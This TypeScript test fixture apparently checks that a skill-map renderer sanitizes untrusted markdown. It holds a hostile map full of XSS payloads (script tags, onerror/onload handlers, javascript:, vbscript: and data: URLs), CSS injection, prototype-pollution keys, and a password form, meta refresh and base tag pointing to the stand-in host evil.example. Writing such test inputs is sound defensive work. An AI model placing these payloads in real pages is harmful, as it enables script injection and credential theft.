/** Any script that runs calls `ran`; any forbidden request goes to evil.example. */
const run = (where: string): string => `ran('${where}')`;
export const long = 'very-long-word-'.repeat(7_000);

export const HOSTILE_MAP = `# <img src=x onerror="${run('page id')}">
* name: <script>${run('title')}</script>
* description: "><img src=https://evil.example/a onerror="${run('description')}"> **bold** [click](javascript:${run('link')}) <svg onload="${run('svg')}">
* infourl: javascript:${run('infourl')}
* backgroundurl: javascript:${run('background')}
* bannerurl: x" onerror="${run('banner')}
* primarycolor: red;} body { display: none } a {
* secondarycolor: url(https://evil.example/secondary)
* tertiarycolor: </style><script>${run('style')}</script>
* highlightcolor: expression(${run('expression')})
* lockednodecolor: var(--x, url(https://evil.example/locked))
* completednodecolor: #fff; background-image: url(https://evil.example/completed)

\`\`\`intro
**Hello**
[js](javascript:${run('intro link')}) [js2](JaVaScRiPt:${run('intro link 2')}) [js3](&#106;avascript:${run('intro link 3')})
[page](data:text/html,<script>${run('intro data')}</script>) [vbs](vbscript:${run('vbs')}) [good](https://example.org/good)
![js picture](javascript:${run('intro picture')}) ![fine](https://pictures.example/intro.png)
Inline <a href="javascript:${run('inline link')}">link</a> and <img src=x onerror="${run('inline img')}">
<script>${run('intro script')}</script>
<img src=x onerror="${run('intro img')}">
<iframe srcdoc="<script>parent.${run('intro frame')}</script>" src="https://evil.example/frame"></iframe>
<style>body { display: none; background: url(https://evil.example/style) }</style>
<form action="https://evil.example/form"><button>send</button><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<a href="javascript:${run('intro html link')}">html link</a>
\`\`\`

## __proto__
* name: Proto <b>map</b>
* description: ]]><script>${run('map')}</script>

### __proto__
* name: Proto
* description: <img src=x onerror="${run('node')}"> [run](javascript:${run('node link')}) <details open ontoggle="${run('toggle')}">
* type: tutorial
* url: /tutorials/one
* imageurl: data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg picture')}"/>
* tags: <script>${run('tag')}</script>, "><img src=x onerror=${run('tag img')}>
* next: constructor

### constructor
* name: Constructor
* type: tutorial
* url: javascript:${run('tutorial')}
* imageurl: https://pictures.example/fine.png
* next: x"]'><script>${run('id')}</script>

### x"]'><script>${run('id')}</script>
* name: Quotes "'\`><script>${run('name')}</script>
* type: tutorial
* url: /tutorials/one
* imageurl: javascript:${run('picture')}
* next: tostring

### tostring
* name: Reward
* kind: completion
* actions:
    * docs: [run](javascript:${run('action')})
    * map: [<img src=x onerror=${run('label')}>](javascript:${run('map action')})
* rewards:
    * certificate:
        * url: javascript:${run('certificate')}
        * previewurl: javascript:${run('preview')}

## hasownproperty
* name: ${long}
* description: ${long}

### long
* name: L${long}
* type: tutorial
* url: /tutorials/one
* description: ${long}
`;

/** The hosts from which the map may show pictures: an address without a host belongs to the documentation. */
export const PICTURE_HOSTS = /^https:\/\/(?:pictures\.example|arcade\.makecode\.com)\//;

export const TUTORIAL = '# One\n\n## First\nHello.\n\n## Second\nThere.\n\n## Third\nDone.\n';
